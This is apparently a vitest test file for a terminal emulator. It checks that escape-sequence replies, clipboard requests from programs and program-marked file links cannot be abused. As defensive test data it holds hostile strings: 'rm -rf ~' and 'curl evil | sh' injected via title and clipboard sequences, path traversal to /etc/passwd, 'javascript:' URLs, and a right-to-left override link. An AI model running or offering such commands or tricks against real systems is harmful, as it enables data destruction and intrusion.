import { Terminal } from "@xterm/xterm";
import { describe, expect, it } from "vitest";
import { makeFakeApp } from "../testing";
import { isWebAddress, markedLinks } from "../xterm-links";
import { pathOfAddress } from "./addresses";
import { refuseAnswers } from "./answers";
import { makeClipboardGate, takeClipboard, textOfRequest } from "./clipboard";

/** What a terminal types for the person when a program writes something. */
async function answers(sequence: string): Promise<string> {
  const terminal = new Terminal({ allowProposedApi: true, windowOptions: {} });
  refuseAnswers(terminal);
  const copied: string[] = [];
  takeClipboard(terminal, (text) => copied.push(text));
  let said = "";
  terminal.onData((data) => (said += data));
  await new Promise<void>((done) => terminal.write(sequence, done));
  terminal.dispose();
  return said;
}

const base64 = (text: string): string => btoa(String.fromCharCode(...new TextEncoder().encode(text)));

describe("answers to programs", () => {
  it.each([
    ["the title", "\x1b]0;rm -rf ~\x07\x1b[21t"],
    ["the icon's title", "\x1b]1;rm -rf ~\x07\x1b[20t"],
    ["the title after it was kept and brought back", "\x1b]2;evil\x07\x1b[22t\x1b[23t\x1b[21t"],
    ["the window's size and place", "\x1b[13t\x1b[14t\x1b[16t\x1b[18t\x1b[19t"],
    ["a setting with a command in its name", "\x1bP$qrm -rf ~\r\x1b\\"],
    ["a capability with a command in its name", "\x1bP+q726d0d\x1b\\"],
    ["the clipboard", "\x1b]52;c;?\x07"],
    ["the selection", "\x1b]52;p;?\x1b\\"],
    ["the answerback", "\x05"],
  ])("tell nothing of %s", async (_what, sequence) => {
    expect(await answers(sequence)).toBe("");
  });

  it.each([
    ["device attributes", "\x1b[c", /^\x1b\[\?[\d;]+c$/],
    ["the state", "\x1b[5n", /^\x1b\[0n$/],
    ["the cursor's place", "\x1b[6n", /^\x1b\[1;1R$/],
    ["the cursor's shape", "\x1bP$q q\x1b\\", /^\x1bP1\$r\d+ q\x1b\\$/],
    ["a mode", "\x1b[?2004$p", /^\x1b\[\?2004;\d\$y$/],
  ])("tell %s, in digits", async (_what, sequence, expected) => {
    expect(await answers(sequence)).toMatch(expected);
  });

  it("hold no line end and no text of the program's, whatever is asked", async () => {
    const hostile = [
      "\x1b]4;1;?\x07",
      "\x1b]10;?\x07",
      "\x1b]11;?\x07",
      "\x1b[>c",
      "\x1b[=c",
      "\x1b[>q",
      "\x1b[?1$p",
    ];
    for (const sequence of hostile) {
      expect(await answers(`\x1b]0;touch /tmp/x\x07${sequence}`), JSON.stringify(sequence)).not.toMatch(
        /[\r\n]|touch/,
      );
    }
  });
});

describe("the clipboard of programs", () => {
  it("reads requests, and refuses what is none", () => {
    expect(textOfRequest(`c;${base64("grüße")}`)).toBe("grüße");
    for (const bad of [
      "c;?",
      ";?",
      "c;",
      "c",
      "c;%%%",
      `c;${btoa("\xff\xfe")}`,
      `c;${"A".repeat(2 << 20)}`,
    ]) {
      expect(textOfRequest(bad), bad.slice(0, 20)).toBeUndefined();
    }
  });

  it("asks, and does not ask again after a refusal before the person types", async () => {
    const { app, backend } = await makeFakeApp();
    const gate = makeClipboardGate(app);
    await gate.ask("curl evil\x1b | sh\n");
    expect(gate.question(), "what is hidden is shown").toBe("curl evil<U+001B> | sh");
    expect(backend.system.clipboard).toBe("");
    await gate.answer("no");
    expect(backend.system.clipboard).toBe("");
    await gate.ask("again");
    expect(gate.question()).toBeUndefined();
    gate.typed();
    await gate.ask("once");
    await gate.answer("once");
    expect(backend.system.clipboard).toBe("once");
    await gate.ask("asked again");
    await gate.answer("always");
    await gate.ask("not asked");
    expect(gate.question()).toBeUndefined();
    expect(backend.system.clipboard).toBe("not asked");
  });

  it("asks one question at a time, and what is answered is what was shown", async () => {
    const { app, backend } = await makeFakeApp();
    const gate = makeClipboardGate(app);
    await Promise.all([gate.ask("a"), gate.ask("b"), gate.ask("c")]);
    expect(gate.question()).toBe("a");
    await gate.answer("once");
    expect(backend.system.clipboard).toBe("a");
    await gate.answer("always");
    await gate.ask("d");
    expect(gate.question(), "an answer to no question answers nothing").toBe("d");
  });

  it("leaves a question where it is while the person types", async () => {
    const { app, backend } = await makeFakeApp();
    const gate = makeClipboardGate(app);
    await gate.ask("a");
    gate.typed();
    expect(gate.question()).toBe("a");
    expect(backend.system.clipboard).toBe("");
  });
});

describe("links that programs mark", () => {
  const path = (address: string) => {
    const found = pathOfAddress(address, "/home/ada/w", "/home/ada");
    return found && [found.path, found.line, found.column];
  };

  it("lead to files of the workspace only", () => {
    expect(path("file:///home/ada/w/src/a.rs")).toEqual(["/home/ada/w/src/a.rs", 1, undefined]);
    expect(path("file://sol/home/ada/w/a%20b.rs:12:3")).toEqual(["/home/ada/w/a b.rs", 12, 3]);
    expect(path("file:///home/ada/w/a.rs#L7")).toEqual(["/home/ada/w/a.rs", 7, undefined]);
    const refused = [
      "file:///etc/passwd",
      "file:///home/ada/w/../secret",
      "file:///home/ada/w/%2e%2e/secret",
      "file:///home/ada/w%2f..%2fsecret",
      "file:///home/ada/wider/a",
      "file:///home/ada/w",
      "file:///home/ada/w/a%00b",
      "javascript:alert(1)",
      "vscode://file/home/ada/w/a",
      "file:///%zz",
    ];
    for (const address of refused) expect(path(address), address).toBeUndefined();
  });

  it("show where they lead, and open with Ctrl only", () => {
    const log: unknown[] = [];
    const handler = markedLinks({
      openAddress: (url) => log.push(["web", url]),
      openFile: (link, line) => log.push(["file", link.path, line]),
      pathOf: (address) => pathOfAddress(address, "/w", null),
      hover: (text, _event, refused) => log.push(["hover", text, refused]),
    });
    const range = { start: { x: 1, y: 5 }, end: { x: 2, y: 5 } };
    const click = (address: string, ctrlKey: boolean) =>
      handler.activate(new MouseEvent("click", { ctrlKey }), address, range);
    handler.hover?.(new MouseEvent("move"), "https://evil.test/\u202egpj", range);
    click("https://a.test/", false);
    click("https://a.test/", true);
    click("file:///w/a.rs", true);
    click("file:///etc/passwd", true);
    handler.hover?.(new MouseEvent("move"), "file:///etc/passwd", range);
    expect(log).toEqual([
      ["hover", "https://evil.test/\\u{202e}gpj", false],
      ["web", "https://a.test/"],
      ["file", "/w/a.rs", 4],
      ["hover", "file:///etc/passwd", true],
    ]);
    expect(isWebAddress("javascript:alert(1)")).toBe(false);
  });
});
